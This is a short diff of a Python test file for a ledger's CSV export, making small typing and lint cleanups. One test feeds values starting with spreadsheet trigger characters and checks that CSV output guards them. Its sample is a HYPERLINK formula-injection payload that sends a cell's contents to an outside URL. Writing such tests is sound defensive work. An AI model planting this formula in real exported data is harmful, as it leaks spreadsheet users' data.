@@ -24,7 +24,7 @@ TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])
 MONEY = st.integers(-(2**63), 2**63 - 1)
 
 
-def row(**changes: Any) -> Mapping[str, Any]:  # noqa: ANN401 - columns of the ledger
+def row(**changes: object) -> Mapping[str, Any]:
     """A row as the ledger has it: a call of $0.0424."""
     plain: dict[str, Any] = dict.fromkeys(column.name for column in ledger.c)
     costs = {
@@ -193,7 +193,7 @@ def test_text_comes_back_as_it_was(user: str, labels: dict[str, str]) -> None:
     assert guarded.removeprefix("'") == user if guarded != user else not user.startswith("'")
 
 
-@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "'"])  # noqa: RUF001 - full width
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "'"])
 def test_text_that_a_spreadsheet_would_run_is_guarded_in_csv_only(begin: str) -> None:
     formula = f'{begin}HYPERLINK("https://example.com/?"&A1)'
     odd = row(end_user=formula, labels={"=a": formula})
